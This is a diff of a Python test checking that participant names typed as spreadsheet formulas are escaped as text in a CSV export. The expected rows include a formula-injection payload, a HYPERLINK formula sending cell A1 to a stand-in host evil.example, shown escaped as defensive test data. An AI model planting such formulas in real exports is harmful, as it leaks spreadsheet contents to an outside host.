@@ -78,7 +78,7 @@ def test_a_name_typed_as_a_formula_is_written_as_text_in_the_csv(focal_point_sta
     decide_registration(delegation=delegation, approve=True, by=None)
     rows = list(csv_module.reader(io.StringIO(participants_csv(meeting).decode())))[1:]
     assert [row[3:] for row in rows] == [
-        ["'=HYPERLINK(\"https://evil.example/?\"&A1)", "'+1"],
+        ['\'=HYPERLINK("https://evil.example/?"&A1)', "'+1"],
         ["'@SUM(A1:A9)", "'-2"],
         ["Anna-Maria Berger", "Counsellor"],
     ]
